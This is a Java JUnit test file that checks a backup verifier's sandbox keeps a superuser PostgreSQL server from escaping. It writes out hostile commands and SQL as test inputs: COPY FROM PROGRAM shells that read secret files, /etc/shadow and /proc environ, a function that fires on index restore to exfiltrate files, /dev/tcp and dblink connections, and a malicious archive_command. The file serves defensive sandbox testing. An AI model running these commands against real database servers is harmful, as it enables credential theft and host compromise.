package io.groundzero.backup.verifier.breakout;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.concurrent.ThreadLocalRandom;
import java.util.stream.Stream;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import io.groundzero.backup.archive.DurableFiles;
import io.groundzero.backup.postgres.ChildProcess;
import io.groundzero.backup.postgres.ClientPrograms;
import io.groundzero.backup.verifier.proof.LocalTrouble;
import io.groundzero.backup.verifier.sandbox.Account;
import io.groundzero.backup.verifier.sandbox.Isolation;
import io.groundzero.backup.verifier.sandbox.Sandbox;
import io.groundzero.backup.verifier.sandbox.Scratch;
import io.groundzero.backup.verifier.server.ThrowawayServer;
import io.groundzero.backup.verifier.server.ThrowawayServerTest;

/**
 * A dump is code from outside, and what it can do at most is run SQL as superuser, and by that any program. Each test
 * runs what an attacker would, sees that it ran, and that it got nothing.
 */
class BreakOutTest {

    private static final String SECRET = "TOP-SECRET-" + ThreadLocalRandom.current().nextLong(Long.MAX_VALUE);

    private static Path home;
    private static Path secrets;
    private static Path neighbour;
    private static Scratch scratch;
    private static ThrowawayServer server;

    @BeforeAll
    static void start() throws Exception {
        ChildProcess.of(List.of(Path.of(System.getProperty("gz.root"), "infra/throwaway-user").toString())).run();
        Account account = Account.named("ground-zero-throwaway").orElseThrow();
        // not below a folder that is emptied inside, so that those are
        home = folder(Path.of("/var/lib/ground-zero-break-out-" + ProcessHandle.current().pid()), "rwxr-xr-x");
        // readable for everybody, to see that hiding does not depend on permissions
        secrets = folder(home.resolve("secrets"), "rwxr-xr-x");
        List<Path> hidden = new ArrayList<>();
        for (String name : List.of("private.asc", "signing.asc", "s3-secret-key", "broker-verifier")) {
            hidden.add(Files.writeString(secrets.resolve(name), SECRET + "\n"));
        }
        neighbour = folder(home.resolve("neighbour"), "rwxr-xr-x");
        Files.writeString(neighbour.resolve("kept"), "untouched");
        Path root = home.resolve("scratch");
        Sandbox sandbox = new Sandbox(Isolation.NAMESPACES, account, hidden, root);
        scratch = Scratch.open(root, sandbox);
        server = ThrowawayServer.start(sandbox, ClientPrograms.locate(15), ThrowawayServerTest.SOURCE,
                scratch.begin(), 2);
    }

    @AfterAll
    static void stop() throws Exception {
        server.close();
        scratch.wipe();
        scratch.close();
        DurableFiles.deleteTree(home);
    }

    @Test
    void keysAndCredentialsCannotBeRead() throws Exception {
        for (Path secret : files(secrets)) {
            assertThat(shell("cat " + secret + "; cat /proc/1/root" + secret)).as(secret.toString())
                    .contains("ran").doesNotContain(SECRET);
            assertThat(valueOrError("SELECT pg_read_file('" + secret + "')")).doesNotContain(SECRET);
            assertThat(valueOrError("SELECT convert_from(lo_get(lo_import('" + secret + "')), 'UTF8')"))
                    .doesNotContain(SECRET);
        }
        assertThat(shell("cat /etc/shadow")).contains("Permission denied");
    }

    @Test
    void otherProcessesCannotBeSeenOrHurt() throws Exception {
        long verifier = ProcessHandle.current().pid();

        String seen = shell("ls /proc | grep -c '^[0-9]'; cat /proc/" + verifier + "/environ; ls /proc/" + verifier
                + "/root; kill -9 " + verifier
                + "; kill -0 1 || echo cannot-signal-1; tr '\\0' '\\n' </proc/1/environ");

        assertThat(seen).contains("ran").contains("No such file or directory").doesNotContain("JAVA_HOME", SECRET)
                .containsPattern("(?i)no such process");
        assertThat(Integer.parseInt(seen.lines().findFirst().orElseThrow())).isLessThan(30);
        assertThat(ProcessHandle.current().isAlive()).isTrue();
    }

    @Test
    void nobodyCanBeReached() throws Exception {
        try (ServerSocket listener = listener()) {
            int port = listener.getLocalPort();
            String own = InetAddress.getLocalHost().getHostAddress();

            assertThat(shell("for host in 127.0.0.1 " + own + "; do echo x 2>&1 >/dev/tcp/$host/" + port + "; done"))
                    .contains("ran").contains("unreachable");
            sql("CREATE EXTENSION IF NOT EXISTS dblink");
            assertThat(valueOrError("SELECT x FROM dblink('host=127.0.0.1 port=" + port
                    + " dbname=postgres connect_timeout=2', 'SELECT 1') AS t(x int)")).contains("could not");

            assertNobodyCame(listener);
        }
        // where sockets of other servers lie; /run/mount is mount's own
        assertThat(shell("find /run /tmp /var/tmp -mindepth 1 -not -path '/run/mount*'")).isEqualTo("ran\n");
    }

    @Test
    void aSubscriptionConnectsToNobody() throws Exception {
        try (ServerSocket listener = listener()) {
            sql("CREATE SUBSCRIPTION evil CONNECTION 'host=127.0.0.1 port=" + listener.getLocalPort()
                    + " dbname=postgres' PUBLICATION p WITH (connect = false, slot_name = 's')");
            sql("ALTER SUBSCRIPTION evil ENABLE");

            assertNobodyCame(listener);
            assertThat(value("SELECT count(*) FROM pg_stat_activity WHERE backend_type LIKE 'logical replication w%'"))
                    .isEqualTo("0");
        } finally {
            sql("ALTER SUBSCRIPTION evil DISABLE");
            sql("ALTER SUBSCRIPTION evil SET (slot_name = NONE)");
            sql("DROP SUBSCRIPTION evil");
        }
    }

    /** What the restore of an index and of a materialised view runs by itself. */
    @Test
    void whatARestoreRunsByItselfGetsNothing() throws Exception {
        Path script = scratch.root().resolve("run/evil.sql");
        Files.writeString(script, """
                CREATE TABLE loot (line text);
                CREATE FUNCTION steal() RETURNS void LANGUAGE plpgsql AS $$
                BEGIN
                  EXECUTE 'COPY public.loot FROM PROGRAM ''cat %s/*; echo ran; true''';
                END $$;
                CREATE FUNCTION evil(x int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $$
                BEGIN
                  PERFORM public.steal();
                  RETURN x;
                END $$;
                CREATE TABLE t (x int);
                INSERT INTO t VALUES (1);
                CREATE INDEX i ON t (evil(x));
                CREATE MATERIALIZED VIEW m AS SELECT evil(x) FROM t;
                """.formatted(secrets));
        Files.setPosixFilePermissions(script, PosixFilePermissions.fromString("rw-r--r--"));

        ChildProcess.Outcome outcome = server.program("psql",
                List.of("-Xq", "-v", "ON_ERROR_STOP=1", "-d", "postgres", "-f", script.toString())).run();

        assertThat(outcome.exitCode()).as(outcome.words()).isZero();
        assertThat(value("SELECT count(*) FROM loot WHERE line = 'ran'")).isEqualTo("2");
        assertThat(value("SELECT string_agg(line, ',') FROM loot")).doesNotContain(SECRET);
    }

    @Test
    void settingsOfADumpReachNothing() throws Exception {
        Path marker = scratch.root().resolve("run/data/marker");
        sql("ALTER SYSTEM SET archive_mode = 'on'");
        sql("ALTER SYSTEM SET archive_command = 'touch " + marker + "'");
        sql("ALTER SYSTEM SET listen_addresses = '*'");
        sql("ALTER SYSTEM SET shared_preload_libraries = 'pg_cron'");
        sql("ALTER DATABASE template1 SET session_preload_libraries = 'evil'");
        sql("ALTER DATABASE template1 SET statement_timeout = 1");
        sql("ALTER DATABASE template1 SET default_transaction_read_only = on");
        sql("SELECT pg_reload_conf()");
        sql("SELECT pg_switch_wal()");

        assertThat(value("SHOW listen_addresses")).isEmpty();
        assertThat(value("SHOW archive_mode")).isEqualTo("off");
        assertThat(value("SHOW shared_preload_libraries")).isEmpty();
        try (Connection connection = server.connect("template1"); Statement statement = connection.createStatement()) {
            statement.execute("CREATE TABLE writable (x int)");
            statement.execute("SELECT pg_sleep(0.05)");
            statement.execute("DROP TABLE writable");
        }
        assertThat(marker).doesNotExist();
    }

    /** DDL that the verifier itself does not do cannot disturb its comparison. */
    @Test
    void anEventTriggerDisturbsNoReading() throws Exception {
        sql("CREATE DATABASE triggered");
        try (Connection connection = server.connect("triggered"); Statement statement = connection.createStatement()) {
            statement.execute("CREATE TABLE t AS SELECT 1 AS x");
            statement.execute("CREATE FUNCTION refuse() RETURNS event_trigger LANGUAGE plpgsql AS"
                    + " 'BEGIN RAISE EXCEPTION ''no''; END'");
            statement.execute("CREATE EVENT TRIGGER refuse ON ddl_command_start EXECUTE FUNCTION refuse()");
        }
        try (Connection connection = server.connect("triggered")) {
            connection.setAutoCommit(false);

            var read = io.groundzero.backup.fingerprint.Fingerprints.read(connection, "triggered",
                    io.groundzero.backup.fingerprint.Level.FULL);

            assertThat(read.tables()).singleElement().satisfies(table -> assertThat(table.rows()).isEqualTo(1));
        }
    }

    /** It cannot be filled here, which says nothing about the backup. */
    @Test
    void aForeignServerIsNotReachedAndThatIsNobodysFault() throws Exception {
        try (ServerSocket listener = listener()) {
            sql("CREATE EXTENSION postgres_fdw");
            sql("CREATE SERVER far FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', port '"
                    + listener.getLocalPort() + "')");
            sql("CREATE USER MAPPING FOR CURRENT_USER SERVER far OPTIONS (user 'x', password 'y')");
            sql("CREATE FOREIGN TABLE there (x int) SERVER far");
            sql("CREATE MATERIALIZED VIEW mirror AS SELECT x FROM there WITH NO DATA");

            String refused = valueOrError("REFRESH MATERIALIZED VIEW mirror");

            assertThat(refused).contains("could not connect to server \"far\"");
            assertThat(LocalTrouble.in(refused)).isPresent();
            assertNobodyCame(listener);
        }
    }

    @Test
    void aLibraryFromOutsideIsNotLoaded() {
        assertThatThrownBy(() -> sql("LOAD '" + secrets.resolve("private.asc") + "'")).isInstanceOf(SQLException.class);
        assertThatThrownBy(() -> sql("CREATE FUNCTION evil() RETURNS int LANGUAGE c AS '" + neighbour.resolve("kept")
                + "', 'evil'")).isInstanceOf(SQLException.class);
    }

    @Test
    void nothingOutsideCanBeWrittenOrMounted() throws Exception {
        String tried = shell("for place in /etc /root /usr/lib " + home + " " + neighbour + " " + scratch.root()
                + "; do touch $place/planted && echo planted; done; mount -t tmpfs x /mnt && echo mounted; chroot / true"
                + " && echo chrooted; mknod " + server.folder() + "/data/disk b 8 0 && echo made");

        assertThat(tried).contains("ran").doesNotContain("planted\n", "mounted\n", "chrooted\n", "made\n");
        assertThat(neighbour.resolve("kept")).hasContent("untouched");
        assertThat(valueOrError("COPY (SELECT 'x') TO '" + neighbour + "/planted'")).contains("ermission");
        try (Stream<Path> files = Files.list(neighbour)) {
            assertThat(files).hasSize(1);
        }
    }

    /** A fork bomb in a dump ends at this number, which leaves the machine standing. */
    @Test
    void processesAreLimited() throws Exception {
        assertThat(shell("ulimit -u; ulimit -c").lines().limit(2)).containsExactly("1024", "0");
    }

    private static Path folder(Path path, String mode) throws IOException {
        Files.createDirectories(path);
        return Files.setPosixFilePermissions(path, PosixFilePermissions.fromString(mode));
    }

    private static List<Path> files(Path folder) throws IOException {
        try (Stream<Path> files = Files.list(folder)) {
            return files.toList();
        }
    }

    /** What a shell that the server starts says, with "ran" at the end. */
    private static String shell(String script) throws SQLException {
        String encoded = Base64.getEncoder().encodeToString((script + "\n").getBytes(StandardCharsets.UTF_8));
        StringBuilder said = new StringBuilder();
        try (Connection connection = server.connect("postgres"); Statement statement = connection.createStatement()) {
            statement.execute("CREATE TEMP TABLE said (line text)");
            statement.execute("COPY said FROM PROGRAM 'echo " + encoded
                    + " | base64 -d | timeout 20 bash 2>&1; echo ran' WITH (FORMAT csv, DELIMITER E'\\x01', QUOTE E'\\x02')");
            try (ResultSet row = statement.executeQuery("SELECT line FROM said")) {
                while (row.next()) {
                    said.append(row.getString(1)).append('\n');
                }
            }
        }
        return said.toString();
    }

    private static void sql(String statement) throws SQLException {
        try (Connection connection = server.connect("postgres"); Statement session = connection.createStatement()) {
            session.execute(statement);
        }
    }

    private static String value(String query) throws SQLException {
        try (Connection connection = server.connect("postgres");
                Statement session = connection.createStatement();
                ResultSet row = session.executeQuery(query)) {
            row.next();
            return row.getString(1);
        }
    }

    private static String valueOrError(String query) {
        try (Connection connection = server.connect("postgres"); Statement session = connection.createStatement()) {
            if (session.execute(query)) {
                session.getResultSet().next();
                return String.valueOf(session.getResultSet().getString(1));
            }
            return "done";
        } catch (SQLException e) {
            return e.getMessage();
        }
    }

    /** Below the range of outgoing ports. */
    private static ServerSocket listener() throws IOException {
        for (int attempt = 0;; attempt++) {
            try {
                return new ServerSocket(ThreadLocalRandom.current().nextInt(21_000, 32_000), 5,
                        InetAddress.getByName("0.0.0.0"));
            } catch (IOException taken) {
                if (attempt == 50) {
                    throw taken;
                }
            }
        }
    }

    private static void assertNobodyCame(ServerSocket listener) throws IOException {
        listener.setSoTimeout(1500);
        assertThatThrownBy(listener::accept).isInstanceOf(SocketTimeoutException.class);
    }
}
